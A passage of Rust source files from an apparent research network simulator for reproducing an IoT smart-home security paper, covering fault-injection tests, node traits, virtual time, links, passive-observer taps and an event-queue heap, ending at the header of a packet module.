        let stats = net.run_until(SimTime::from_secs(20));
        // Beats at 2, 4 — crash at 5 voids the timer armed at 4 — then
        // restart at 11 re-runs on_start: beats resume at 13, 15, ...
        let got: Vec<u64> = beats
            .borrow()
            .iter()
            .map(|t| t.as_micros() / 1_000_000)
            .collect();
        assert_eq!(got, vec![2, 4, 13, 15, 17, 19]);
        assert!(stats.fault_drops >= 1, "pre-crash timer must be voided");
    }

    #[test]
    fn deliveries_to_a_crashed_node_are_outage_drops() {
        use crate::fault::FaultPlan;
        let received = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let a = net.add_node(Box::new(Sink::default()));
        let b = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        net.connect(a, b, Medium::Ethernet.link().with_loss(0.0));
        net.set_fault_plan(FaultPlan::new().node_crash(b, SimTime::ZERO, None));
        net.inject(a, b, Packet::new(a, b, "x", vec![1u8]));
        let stats = net.run();
        assert_eq!(stats.fault_drops, 1);
        assert_eq!(stats.delivered, 0);
        assert!(received.borrow().is_empty());
    }

    #[test]
    fn clock_skew_shifts_context_now_forward() {
        use crate::fault::FaultPlan;
        let received = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let src = net.add_node(Box::new(Sink::default()));
        net.connect(src, sink, Medium::Ethernet.link().with_loss(0.0));
        net.set_fault_plan(FaultPlan::new().clock_skew(
            sink,
            SimTime::from_secs(1),
            Duration::from_secs(30),
        ));
        net.run_until(SimTime::from_secs(2));
        net.inject(src, sink, Packet::new(src, sink, "x", vec![1u8]));
        net.run_until(SimTime::from_secs(3));
        let seen_at = received.borrow()[0].0;
        // The skewed node's local clock reads ~30 s ahead of engine time.
        assert!(seen_at >= SimTime::from_secs(31), "seen at {seen_at:?}");
    }

    #[test]
    fn degraded_link_loses_packets_only_inside_the_window() {
        use crate::fault::FaultPlan;
        // Loss is drawn at transmit time, so the sender must actually be
        // transmitting inside the degrade window: 30 packets per second
        // for 25 s, with seconds [10, 20) degraded to 90% loss.
        struct Burster {
            peer: NodeId,
        }
        impl Node for Burster {
            fn on_start(&mut self, ctx: &mut Context<'_>) {
                ctx.set_timer(Duration::from_secs(1), 1);
            }
            fn on_timer(&mut self, ctx: &mut Context<'_>, _t: TimerId, _tag: u64) {
                for _ in 0..30 {
                    let p = Packet::new(ctx.id(), self.peer, "x", vec![1u8]);
                    ctx.send(self.peer, p);
                }
                ctx.set_timer(Duration::from_secs(1), 1);
            }
        }
        let mut net = Network::new(21);
        let b = net.add_node(Box::new(Sink::default()));
        let a = net.add_node(Box::new(Burster { peer: b }));
        net.connect(a, b, Medium::Ethernet.link().with_loss(0.0));
        net.set_fault_plan(FaultPlan::new().burst_loss(
            a,
            b,
            SimTime::from_secs(10),
            Duration::from_secs(10),
            0.9,
            Duration::ZERO,
        ));
        net.run_until(SimTime::from_millis(9_500));
        assert_eq!(net.stats().lost, 0, "healthy link loses nothing");
        net.run_until(SimTime::from_millis(19_500));
        let inside = net.stats().lost;
        // 10 bursts × 30 packets at 90% loss → ~270 expected.
        assert!(inside > 200, "degraded window should lose most: {inside}");
        net.run_until(SimTime::from_secs(25));
        assert_eq!(net.stats().lost, inside, "restored link loses nothing");
    }

    #[test]
    fn fault_plans_are_deterministic() {
        use crate::fault::FaultPlan;
        fn run_once() -> NetworkStats {
            let mut net = Network::new(99);
            let a = net.add_node(Box::new(Sink::default()));
            let b = net.add_node(Box::new(Echo));
            net.connect(a, b, Medium::Wifi.link().with_loss(0.3));
            net.set_fault_plan(
                FaultPlan::new()
                    .link_flap(a, b, SimTime::from_millis(5), Duration::from_millis(10))
                    .node_crash(b, SimTime::from_millis(30), Some(Duration::from_millis(10))),
            );
            for i in 0..100 {
                net.inject(a, b, Packet::new(a, b, "x", vec![i as u8]));
            }
            net.run()
        }
        assert_eq!(run_once(), run_once());
    }

    #[test]
    fn run_until_capped_truncates_and_resumes() {
        let fired = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        net.add_node(Box::new(Beeper {
            fired: fired.clone(),
            cancel_second: false,
        }));
        let (n, truncated) = net.run_until_capped(SimTime::from_secs(1), 2);
        assert_eq!((n, truncated), (2, true));
        assert_eq!(*fired.borrow(), vec![1, 2]);
        // The remaining event is still queued and runs on the next call.
        let (n, truncated) = net.run_until_capped(SimTime::from_secs(1), u64::MAX);
        assert_eq!((n, truncated), (1, false));
        assert_eq!(*fired.borrow(), vec![1, 2, 3]);
    }

    #[test]
    fn send_after_adds_sender_delay() {
        struct Delayer;
        impl Node for Delayer {
            fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
                let fwd = Packet::new(ctx.id(), packet.src, "delayed", packet.payload.clone());
                ctx.send_after(packet.src, fwd, Duration::from_millis(50));
            }
        }
        let received = Rc::new(RefCell::new(Vec::new()));
        let mut net = Network::new(1);
        let sink = net.add_node(Box::new(Sink {
            received: received.clone(),
        }));
        let delayer = net.add_node(Box::new(Delayer));
        net.connect(sink, delayer, Medium::Ethernet.link());
        net.inject(sink, delayer, Packet::new(sink, delayer, "x", vec![0u8]));
        net.run();
        let at = received.borrow()[0].0;
        assert!(at.as_micros() >= 50_000);
    }
}
