//! Node identity and the behaviour trait implemented by every simulated
//! entity (devices, gateways, cloud endpoints, attackers, middleboxes).

use crate::engine::Context;
use crate::packet::Packet;
use std::fmt;

/// Opaque identifier of a node in a [`Network`](crate::Network).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NodeId(u32);

impl NodeId {
    /// Builds a node id from its raw index. Only useful in tests and
    /// serialization; real ids come from
    /// [`Network::add_node`](crate::Network::add_node).
    pub fn from_raw(raw: u32) -> Self {
        NodeId(raw)
    }

    /// The raw index.
    pub fn raw(self) -> u32 {
        self.0
    }
}

impl fmt::Display for NodeId {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "n{}", self.0)
    }
}

/// Identifier of a pending timer, unique per network.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct TimerId(pub(crate) u64);

/// Object-safe downcasting support, blanket-implemented for every
/// `'static` type so [`Node`] implementors get it for free.
pub trait AsAny {
    /// `self` as [`std::any::Any`].
    fn as_any(&self) -> &dyn std::any::Any;
    /// `self` as mutable [`std::any::Any`].
    fn as_any_mut(&mut self) -> &mut dyn std::any::Any;
}

impl<T: 'static> AsAny for T {
    fn as_any(&self) -> &dyn std::any::Any {
        self
    }
    fn as_any_mut(&mut self) -> &mut dyn std::any::Any {
        self
    }
}

/// Behaviour of a simulated node.
///
/// All callbacks run on the single simulation thread; re-entrancy is
/// impossible. Default implementations ignore every event, so passive
/// nodes (sinks, probes) need no code. Concrete node state can be
/// inspected after a run via [`Network::node_as`](crate::Network::node_as).
pub trait Node: AsAny {
    /// Called when a packet addressed to this node is delivered.
    fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
        let _ = (ctx, packet);
    }

    /// Called when a timer set via [`Context::set_timer`] fires. `tag` is
    /// the caller-chosen label passed at arming time.
    fn on_timer(&mut self, ctx: &mut Context<'_>, timer: TimerId, tag: u64) {
        let _ = (ctx, timer, tag);
    }

    /// Called once when the simulation starts (before any packet flows).
    fn on_start(&mut self, ctx: &mut Context<'_>) {
        let _ = ctx;
    }

    /// Called when the node comes back from an injected crash
    /// ([`crate::fault::FaultKind::NodeRestart`]). The crash voided all
    /// of its armed timers, so the default re-runs [`Node::on_start`] —
    /// a cold boot. Override to model warm restarts that recover state.
    fn on_restart(&mut self, ctx: &mut Context<'_>) {
        self.on_start(ctx);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn node_id_display_and_raw() {
        let id = NodeId::from_raw(7);
        assert_eq!(id.to_string(), "n7");
        assert_eq!(id.raw(), 7);
    }

    #[test]
    fn default_node_impl_ignores_everything() {
        struct Passive;
        impl Node for Passive {}
        // Compiles and the default bodies exist — exercised via the engine
        // integration tests.
        let _ = Passive;
    }
}
