//! Deterministic discrete-event network simulator substrate for the XLF
//! reproduction.
//!
//! The paper's testbed is a physical smart home: devices on ZigBee/Z-Wave/
//! WiFi links behind a gateway, talking to a cloud. Every XLF mechanism
//! consumes *events, packets, timing, and sizes* — not physical RF — so this
//! simulator reproduces exactly those observables:
//!
//! * a virtual clock with microsecond resolution ([`SimTime`]),
//! * media models ([`Medium`]) with bandwidth/latency/loss/MTU drawn from
//!   the protocol families in the paper's Figure 2,
//! * promiscuous [`observer`] taps that expose the per-packet metadata a
//!   passive adversary sees (the Apthorpe et al. threat model in §IV-B1),
//! * a [`nat`] flow view grouping traffic the way an on-path observer
//!   outside the home NAT would.
//!
//! Everything is single-threaded and deterministic: the same seed and
//! topology produce byte-identical traces.
//!
//! # Example
//!
//! ```
//! use xlf_simnet::{Network, Medium, Packet, Node, Context};
//!
//! struct Echo;
//! impl Node for Echo {
//!     fn on_packet(&mut self, ctx: &mut Context<'_>, packet: Packet) {
//!         let reply = Packet::new(ctx.id(), packet.src, "echo", packet.payload.clone());
//!         ctx.send(packet.src, reply);
//!     }
//! }
//!
//! struct Probe;
//! impl Node for Probe {}
//!
//! let mut net = Network::new(42);
//! let echo = net.add_node(Box::new(Echo));
//! let probe = net.add_node(Box::new(Probe));
//! net.connect(echo, probe, Medium::Ethernet.link());
//! net.inject(probe, echo, Packet::new(probe, echo, "ping", b"hi".to_vec()));
//! let stats = net.run();
//! assert!(stats.delivered >= 2); // ping + echo
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod engine;
pub mod fault;
mod link;
mod medium;
pub mod nat;
mod node;
pub mod observer;
mod packet;
pub mod queue;
mod time;

pub use engine::{Context, Network, NetworkStats};
pub use fault::{FaultEvent, FaultKind, FaultPlan};
pub use link::LinkConfig;
pub use medium::Medium;
pub use node::{AsAny, Node, NodeId, TimerId};
pub use packet::{FlowKey, Packet, Protocol};
pub use time::{Duration, SimTime};
