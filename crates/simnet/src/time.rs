//! Virtual time: microsecond-resolution simulation clock.

use std::fmt;
use std::ops::{Add, AddAssign, Sub};

/// An instant on the simulation clock (microseconds since simulation
/// start).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct SimTime(u64);

impl SimTime {
    /// The simulation epoch (t = 0).
    pub const ZERO: SimTime = SimTime(0);

    /// Builds an instant from raw microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        SimTime(micros)
    }

    /// Builds an instant from milliseconds.
    pub const fn from_millis(millis: u64) -> Self {
        SimTime(millis * 1_000)
    }

    /// Builds an instant from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        SimTime(secs * 1_000_000)
    }

    /// Raw microseconds since the simulation epoch.
    pub const fn as_micros(self) -> u64 {
        self.0
    }

    /// Seconds since the epoch as a float (for reporting).
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e6
    }

    /// Duration elapsed since `earlier`, saturating at zero.
    pub fn since(self, earlier: SimTime) -> Duration {
        Duration(self.0.saturating_sub(earlier.0))
    }
}

impl fmt::Display for SimTime {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "t={:.6}s", self.as_secs_f64())
    }
}

/// A span of virtual time (microseconds).
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Default)]
pub struct Duration(u64);

impl Duration {
    /// The zero-length span.
    pub const ZERO: Duration = Duration(0);

    /// Builds a span from raw microseconds.
    pub const fn from_micros(micros: u64) -> Self {
        Duration(micros)
    }

    /// Builds a span from milliseconds.
    pub const fn from_millis(millis: u64) -> Self {
        Duration(millis * 1_000)
    }

    /// Builds a span from whole seconds.
    pub const fn from_secs(secs: u64) -> Self {
        Duration(secs * 1_000_000)
    }

    /// Raw microseconds.
    pub const fn as_micros(self) -> u64 {
        self.0
    }

    /// Seconds as a float (for reporting).
    pub fn as_secs_f64(self) -> f64 {
        self.0 as f64 / 1e6
    }

    /// Scales the span by a float factor (saturating, rounding down).
    pub fn mul_f64(self, factor: f64) -> Duration {
        Duration((self.0 as f64 * factor.max(0.0)) as u64)
    }
}

impl fmt::Display for Duration {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:.6}s", self.as_secs_f64())
    }
}

impl Add<Duration> for SimTime {
    type Output = SimTime;
    fn add(self, rhs: Duration) -> SimTime {
        SimTime(self.0 + rhs.0)
    }
}

impl AddAssign<Duration> for SimTime {
    fn add_assign(&mut self, rhs: Duration) {
        self.0 += rhs.0;
    }
}

impl Add for Duration {
    type Output = Duration;
    fn add(self, rhs: Duration) -> Duration {
        Duration(self.0 + rhs.0)
    }
}

impl AddAssign for Duration {
    fn add_assign(&mut self, rhs: Duration) {
        self.0 += rhs.0;
    }
}

impl Sub for SimTime {
    type Output = Duration;
    fn sub(self, rhs: SimTime) -> Duration {
        Duration(self.0.saturating_sub(rhs.0))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn conversions_are_consistent() {
        assert_eq!(SimTime::from_millis(1).as_micros(), 1_000);
        assert_eq!(SimTime::from_secs(2).as_micros(), 2_000_000);
        assert_eq!(Duration::from_secs(1).as_secs_f64(), 1.0);
    }

    #[test]
    fn arithmetic() {
        let t = SimTime::from_secs(1) + Duration::from_millis(500);
        assert_eq!(t.as_micros(), 1_500_000);
        assert_eq!((t - SimTime::from_secs(1)).as_micros(), 500_000);
        // Saturation instead of underflow.
        assert_eq!((SimTime::ZERO - t).as_micros(), 0);
    }

    #[test]
    fn ordering() {
        assert!(SimTime::from_micros(5) < SimTime::from_micros(6));
        assert!(Duration::from_millis(1) > Duration::from_micros(999));
    }

    #[test]
    fn mul_f64_scales_and_clamps() {
        assert_eq!(Duration::from_micros(100).mul_f64(2.5).as_micros(), 250);
        assert_eq!(Duration::from_micros(100).mul_f64(-1.0).as_micros(), 0);
    }

    #[test]
    fn display_formats() {
        assert_eq!(SimTime::from_millis(1500).to_string(), "t=1.500000s");
        assert_eq!(Duration::from_millis(250).to_string(), "0.250000s");
    }
}
