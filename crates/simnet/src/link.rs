//! Point-to-point links with bandwidth, latency, and loss.

use crate::medium::Medium;
use crate::time::Duration;

/// Configuration of a (bidirectional) link between two nodes.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct LinkConfig {
    /// Technology family (drives MTU and reporting).
    pub medium: Medium,
    /// Bandwidth in bits per second.
    pub bandwidth_bps: u64,
    /// One-way latency.
    pub latency: Duration,
    /// Per-packet loss probability in `[0, 1)`.
    pub loss: f64,
}

impl LinkConfig {
    /// Overrides the latency (builder-style).
    pub fn with_latency(mut self, latency: Duration) -> Self {
        self.latency = latency;
        self
    }

    /// Overrides the loss probability (builder-style).
    ///
    /// # Panics
    ///
    /// Panics if `loss` is not in `[0, 1)`.
    pub fn with_loss(mut self, loss: f64) -> Self {
        assert!((0.0..1.0).contains(&loss), "loss must be in [0,1)");
        self.loss = loss;
        self
    }

    /// Overrides the bandwidth (builder-style).
    pub fn with_bandwidth_bps(mut self, bps: u64) -> Self {
        assert!(bps > 0, "bandwidth must be positive");
        self.bandwidth_bps = bps;
        self
    }

    /// Transfer delay for `wire_size` bytes: latency + serialization.
    pub fn delay_for(&self, wire_size: usize) -> Duration {
        let bits = wire_size as u64 * 8;
        let serialize_us = bits.saturating_mul(1_000_000) / self.bandwidth_bps.max(1);
        self.latency + Duration::from_micros(serialize_us)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn delay_scales_with_size_and_bandwidth() {
        let fast = Medium::Ethernet.link();
        let slow = Medium::Zigbee.link();
        assert!(fast.delay_for(1000) < slow.delay_for(1000));
        assert!(slow.delay_for(100) < slow.delay_for(1000));
    }

    #[test]
    fn zigbee_serialization_time_is_realistic() {
        // 127 bytes at 250 kbps ≈ 4.06 ms serialization + 5 ms latency.
        let d = Medium::Zigbee.link().delay_for(127);
        let ms = d.as_secs_f64() * 1e3;
        assert!((8.0..11.0).contains(&ms), "zigbee delay = {ms} ms");
    }

    #[test]
    fn builders_validate() {
        let cfg = Medium::Wifi.link().with_loss(0.25);
        assert_eq!(cfg.loss, 0.25);
        let result = std::panic::catch_unwind(|| Medium::Wifi.link().with_loss(1.5));
        assert!(result.is_err());
    }
}
