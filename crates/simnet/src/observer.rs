//! Promiscuous observer taps: the vantage point of a passive network
//! adversary (Apthorpe et al.) and of XLF's own network-layer monitors.
//!
//! A tap sees each transmission's *metadata* — timestamp, endpoints, wire
//! size, protocol tag — exactly what an on-path observer of encrypted
//! traffic can see. The `kind` label is also recorded as ground truth for
//! experiment scoring; adversary implementations must not read it (the
//! attacks crate enforces this by constructing features from the metadata
//! fields only).

use crate::link::LinkConfig;
use crate::node::NodeId;
use crate::packet::{Packet, Protocol};
use crate::time::SimTime;
use std::cell::RefCell;
use std::rc::Rc;

/// One observed transmission.
#[derive(Debug, Clone, PartialEq)]
pub struct PacketRecord {
    /// When the packet hit the wire.
    pub at: SimTime,
    /// Sender.
    pub src: NodeId,
    /// Receiver.
    pub dst: NodeId,
    /// Observable size on the wire (after any shaping/padding).
    pub wire_size: usize,
    /// Protocol tag (what port/heuristic classification would yield).
    pub protocol: Protocol,
    /// Ground-truth application label — **not** visible to adversaries.
    /// Uses the packet's `state` metadata when present (device-state
    /// inference experiments), falling back to the packet kind.
    pub ground_truth_kind: String,
}

/// Anything that watches transmissions.
pub trait Tap {
    /// Called for every packet handed to a link (including ones the link
    /// later loses — a radio observer hears the transmission regardless).
    fn on_transmit(&mut self, at: SimTime, packet: &Packet, link: &LinkConfig);
}

/// A tap that records every transmission into a shared buffer.
///
/// # Example
///
/// ```
/// use xlf_simnet::observer::RecordingTap;
/// let (tap, handle) = RecordingTap::new();
/// // net.add_tap(Box::new(tap));
/// // ... run ...
/// assert!(handle.borrow().is_empty());
/// ```
pub struct RecordingTap {
    records: Rc<RefCell<Vec<PacketRecord>>>,
    filter: Option<Box<FilterFn>>,
}

impl std::fmt::Debug for RecordingTap {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("RecordingTap")
            .field("records", &self.records.borrow().len())
            .field("filtered", &self.filter.is_some())
            .finish()
    }
}

type FilterFn = dyn Fn(&Packet) -> bool;

impl RecordingTap {
    /// Creates a tap and the shared handle its records land in.
    #[allow(clippy::type_complexity)]
    pub fn new() -> (Self, Rc<RefCell<Vec<PacketRecord>>>) {
        let records = Rc::new(RefCell::new(Vec::new()));
        (
            RecordingTap {
                records: records.clone(),
                filter: None,
            },
            records,
        )
    }

    /// Creates a tap that only records packets matching `filter` —
    /// models an observer positioned on a specific link, e.g. outside the
    /// home NAT.
    #[allow(clippy::type_complexity)]
    pub fn filtered(
        filter: impl Fn(&Packet) -> bool + 'static,
    ) -> (Self, Rc<RefCell<Vec<PacketRecord>>>) {
        let records = Rc::new(RefCell::new(Vec::new()));
        (
            RecordingTap {
                records: records.clone(),
                filter: Some(Box::new(filter)),
            },
            records,
        )
    }
}

impl Tap for RecordingTap {
    fn on_transmit(&mut self, at: SimTime, packet: &Packet, _link: &LinkConfig) {
        if let Some(filter) = &self.filter {
            if !filter(packet) {
                return;
            }
        }
        let label = packet
            .meta("state")
            .unwrap_or(packet.kind.as_str())
            .to_string();
        self.records.borrow_mut().push(PacketRecord {
            at,
            src: packet.src,
            dst: packet.dst,
            wire_size: packet.wire_size,
            protocol: packet.protocol,
            ground_truth_kind: label,
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::engine::Network;
    use crate::medium::Medium;
    use crate::node::Node;

    struct Quiet;
    impl Node for Quiet {}

    #[test]
    fn tap_records_metadata() {
        let mut net = Network::new(3);
        let a = net.add_node(Box::new(Quiet));
        let b = net.add_node(Box::new(Quiet));
        net.connect(a, b, Medium::Wifi.link().with_loss(0.0));
        let (tap, records) = RecordingTap::new();
        net.add_tap(Box::new(tap));
        net.inject(a, b, Packet::new(a, b, "camera-frame", vec![0u8; 900]));
        net.run();
        let records = records.borrow();
        assert_eq!(records.len(), 1);
        assert_eq!(records[0].wire_size, 940);
        assert_eq!(records[0].src, a);
        assert_eq!(records[0].ground_truth_kind, "camera-frame");
    }

    #[test]
    fn tap_sees_lost_packets_too() {
        let mut net = Network::new(3);
        let a = net.add_node(Box::new(Quiet));
        let b = net.add_node(Box::new(Quiet));
        net.connect(a, b, Medium::Wifi.link().with_loss(0.999));
        let (tap, records) = RecordingTap::new();
        net.add_tap(Box::new(tap));
        for _ in 0..50 {
            net.inject(a, b, Packet::new(a, b, "x", vec![0u8; 10]));
        }
        let stats = net.run();
        assert_eq!(records.borrow().len(), 50);
        assert!(stats.lost > 40);
    }

    #[test]
    fn filtered_tap_models_nat_vantage() {
        let mut net = Network::new(3);
        let a = net.add_node(Box::new(Quiet));
        let b = net.add_node(Box::new(Quiet));
        let c = net.add_node(Box::new(Quiet));
        net.connect(a, b, Medium::Ethernet.link());
        net.connect(a, c, Medium::Ethernet.link());
        let (tap, records) = RecordingTap::filtered(move |p| p.dst == b);
        net.add_tap(Box::new(tap));
        net.inject(a, b, Packet::new(a, b, "to-b", vec![0u8]));
        net.inject(a, c, Packet::new(a, c, "to-c", vec![0u8]));
        net.run();
        assert_eq!(records.borrow().len(), 1);
        assert_eq!(records.borrow()[0].ground_truth_kind, "to-b");
    }
}
