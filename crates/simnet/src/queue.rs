//! The scheduler core: an arena-backed, index-based 4-ary min-heap event
//! queue, plus the retained pre-overhaul binary-heap path for A/B
//! benchmarking.
//!
//! Payloads live in a slab arena with generational indices and a
//! free-list, so the heap itself only ever moves 24-byte `(time, seq,
//! slot, gen)` entries during sifts — never the (much larger) event
//! payloads — and slot storage is recycled across the run instead of
//! churning the allocator per event.
//!
//! Ordering is *identical* to the old `BinaryHeap<Reverse<Event>>`
//! scheduler: every entry carries a unique `seq`, so the key `(at, seq)`
//! is a total order and any correct min-heap pops the exact same
//! sequence. [`NaiveEventQueue`] keeps the old implementation alive
//! (mirroring the DPI overhaul's `inspect_naive`) so benchmarks and
//! property tests can prove both equivalence and the speedup.

use crate::time::SimTime;
use std::cmp::Reverse;
use std::collections::BinaryHeap;

/// One 24-byte heap entry; the payload stays put in the arena. The
/// `(at, seq)` key is packed into a single `u128` so sift comparisons
/// compile to one wide compare instead of a two-field tuple chain.
#[derive(Debug, Clone, Copy)]
struct HeapEntry {
    key: u128,
    slot: u32,
    gen: u32,
}

#[inline]
fn pack_key(at: SimTime, seq: u64) -> u128 {
    ((at.as_micros() as u128) << 64) | seq as u128
}

#[inline]
fn unpack_key(key: u128) -> (SimTime, u64) {
    (SimTime::from_micros((key >> 64) as u64), key as u64)
}

/// A payload slot in the arena: the generation counter detects (in debug
/// builds) any stale heap entry pointing at a recycled slot.
#[derive(Debug)]
struct Slot<T> {
    gen: u32,
    payload: Option<T>,
}

/// Arena-backed 4-ary min-heap keyed by `(SimTime, seq)`.
///
/// `seq` values pushed by the engine are unique, making the key a total
/// order: pop order is deterministic and identical to the retained
/// [`NaiveEventQueue`].
#[derive(Debug)]
pub struct EventQueue<T> {
    slots: Vec<Slot<T>>,
    free: Vec<u32>,
    heap: Vec<HeapEntry>,
}

impl<T> Default for EventQueue<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T> EventQueue<T> {
    /// Creates an empty queue.
    pub fn new() -> Self {
        EventQueue {
            slots: Vec::new(),
            free: Vec::new(),
            heap: Vec::new(),
        }
    }

    /// Number of queued events.
    pub fn len(&self) -> usize {
        self.heap.len()
    }

    /// True when no events are queued.
    pub fn is_empty(&self) -> bool {
        self.heap.is_empty()
    }

    /// Schedules `payload` at `(at, seq)`. Callers must keep `seq`
    /// unique (the engine's monotonically increasing counter does).
    pub fn push(&mut self, at: SimTime, seq: u64, payload: T) {
        let slot = match self.free.pop() {
            Some(slot) => {
                let s = &mut self.slots[slot as usize];
                debug_assert!(s.payload.is_none(), "free-list slot still occupied");
                s.payload = Some(payload);
                slot
            }
            None => {
                let slot = self.slots.len() as u32;
                self.slots.push(Slot {
                    gen: 0,
                    payload: Some(payload),
                });
                slot
            }
        };
        let gen = self.slots[slot as usize].gen;
        self.heap.push(HeapEntry {
            key: pack_key(at, seq),
            slot,
            gen,
        });
        self.sift_up(self.heap.len() - 1);
    }

    /// Key of the earliest event, if any.
    pub fn peek_key(&self) -> Option<(SimTime, u64)> {
        self.heap.first().map(|e| unpack_key(e.key))
    }

    /// Removes and returns the earliest event as `(at, seq, payload)`,
    /// recycling its arena slot.
    pub fn pop(&mut self) -> Option<(SimTime, u64, T)> {
        let top = *self.heap.first()?;
        let last = self.heap.pop().expect("non-empty heap");
        if !self.heap.is_empty() {
            self.heap[0] = last;
            self.sift_down(0);
        }
        let slot = &mut self.slots[top.slot as usize];
        debug_assert_eq!(slot.gen, top.gen, "stale generation in heap entry");
        let payload = slot.payload.take().expect("popped slot must be occupied");
        slot.gen = slot.gen.wrapping_add(1);
        self.free.push(top.slot);
        let (at, seq) = unpack_key(top.key);
        Some((at, seq, payload))
    }

    /// 4-ary sift-up: parent of `i` is `(i - 1) / 4`.
    fn sift_up(&mut self, mut i: usize) {
        let entry = self.heap[i];
        while i > 0 {
            let parent = (i - 1) / 4;
            if self.heap[parent].key <= entry.key {
                break;
            }
            self.heap[i] = self.heap[parent];
            i = parent;
        }
        self.heap[i] = entry;
    }

    /// 4-ary sift-down: children of `i` are `4i + 1 ..= 4i + 4`.
    fn sift_down(&mut self, mut i: usize) {
        let entry = self.heap[i];
        let heap = self.heap.as_mut_slice();
        let len = heap.len();
        loop {
            let first = 4 * i + 1;
            if first >= len {
                break;
            }
            let mut min = first;
            let mut min_key = heap[first].key;
            for (off, e) in heap[first + 1..(first + 4).min(len)].iter().enumerate() {
                if e.key < min_key {
                    min = first + 1 + off;
                    min_key = e.key;
                }
            }
            if entry.key <= min_key {
                break;
            }
            heap[i] = heap[min];
            i = min;
        }
        heap[i] = entry;
    }
}

/// An entry of the retained pre-overhaul queue: the payload is carried
/// *inline*, so every binary-heap sift moves the whole event.
#[derive(Debug)]
struct NaiveEntry<T> {
    at: SimTime,
    seq: u64,
    payload: T,
}

impl<T> PartialEq for NaiveEntry<T> {
    fn eq(&self, other: &Self) -> bool {
        self.at == other.at && self.seq == other.seq
    }
}
impl<T> Eq for NaiveEntry<T> {}
impl<T> PartialOrd for NaiveEntry<T> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl<T> Ord for NaiveEntry<T> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        (self.at, self.seq).cmp(&(other.at, other.seq))
    }
}

/// The pre-overhaul scheduler, byte-for-byte the engine's old
/// `BinaryHeap<Reverse<Event>>` discipline, retained for A/B
/// benchmarking and equivalence proptests (the scheduler analogue of the
/// DPI overhaul's `inspect_naive`).
#[derive(Debug)]
pub struct NaiveEventQueue<T> {
    heap: BinaryHeap<Reverse<NaiveEntry<T>>>,
}

impl<T> Default for NaiveEventQueue<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T> NaiveEventQueue<T> {
    /// Creates an empty queue.
    pub fn new() -> Self {
        NaiveEventQueue {
            heap: BinaryHeap::new(),
        }
    }

    /// Number of queued events.
    pub fn len(&self) -> usize {
        self.heap.len()
    }

    /// True when no events are queued.
    pub fn is_empty(&self) -> bool {
        self.heap.is_empty()
    }

    /// Schedules `payload` at `(at, seq)`.
    pub fn push(&mut self, at: SimTime, seq: u64, payload: T) {
        self.heap.push(Reverse(NaiveEntry { at, seq, payload }));
    }

    /// Key of the earliest event, if any.
    pub fn peek_key(&self) -> Option<(SimTime, u64)> {
        self.heap.peek().map(|Reverse(e)| (e.at, e.seq))
    }

    /// Removes and returns the earliest event as `(at, seq, payload)`.
    pub fn pop(&mut self) -> Option<(SimTime, u64, T)> {
        self.heap.pop().map(|Reverse(e)| (e.at, e.seq, e.payload))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn t(us: u64) -> SimTime {
        SimTime::from_micros(us)
    }

    #[test]
    fn pops_in_time_then_seq_order() {
        let mut q = EventQueue::new();
        q.push(t(30), 0, "a");
        q.push(t(10), 1, "b");
        q.push(t(10), 2, "c");
        q.push(t(20), 3, "d");
        let order: Vec<&str> = std::iter::from_fn(|| q.pop()).map(|(_, _, p)| p).collect();
        assert_eq!(order, vec!["b", "c", "d", "a"]);
    }

    #[test]
    fn matches_naive_on_interleaved_push_pop() {
        let mut fast = EventQueue::new();
        let mut naive = NaiveEventQueue::new();
        let mut seq = 0u64;
        // A deterministic but scrambled schedule with equal-time ties.
        for round in 0..50u64 {
            for k in 0..7u64 {
                let at = t((round * 7919 + k * 104_729) % 1000);
                fast.push(at, seq, seq);
                naive.push(at, seq, seq);
                seq += 1;
            }
            for _ in 0..3 {
                assert_eq!(fast.pop(), naive.pop());
            }
        }
        while let Some(got) = fast.pop() {
            assert_eq!(Some(got), naive.pop());
        }
        assert!(naive.is_empty());
    }

    #[test]
    fn free_list_recycles_slots() {
        let mut q = EventQueue::new();
        for i in 0..8u64 {
            q.push(t(i), i, i);
        }
        for _ in 0..8 {
            q.pop();
        }
        // Refill: the arena must not grow past its high-water mark.
        for i in 0..8u64 {
            q.push(t(i), 100 + i, i);
        }
        assert_eq!(q.slots.len(), 8);
        assert_eq!(q.len(), 8);
    }

    #[test]
    fn empty_queue_behaves() {
        let mut q: EventQueue<u8> = EventQueue::new();
        assert!(q.is_empty());
        assert_eq!(q.peek_key(), None);
        assert_eq!(q.pop(), None);
    }
}
