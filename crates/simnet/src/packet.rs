//! Packets and flows: the unit of traffic every XLF mechanism observes.

